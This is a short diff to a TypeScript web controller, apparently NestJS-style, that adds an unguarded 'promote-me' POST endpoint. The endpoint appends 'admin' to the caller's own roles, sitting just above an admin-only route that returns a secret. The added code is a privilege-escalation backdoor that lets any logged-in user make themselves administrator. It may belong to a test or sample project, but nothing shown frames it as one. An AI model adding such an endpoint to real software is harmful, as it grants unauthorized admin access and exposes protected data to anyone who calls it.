@@ -26,6 +26,10 @@ class TeamController {
   bad(): never {
     throw new BadRequestException('There is no colour 7.');
   }
+  @Post('promote-me')
+  promote(@CurrentUser() caller: Identity): void {
+    (caller.roles as string[]).push('admin');
+  }
   @Roles('admin')
   @Get('admin')
   admin(): { secret: string } {
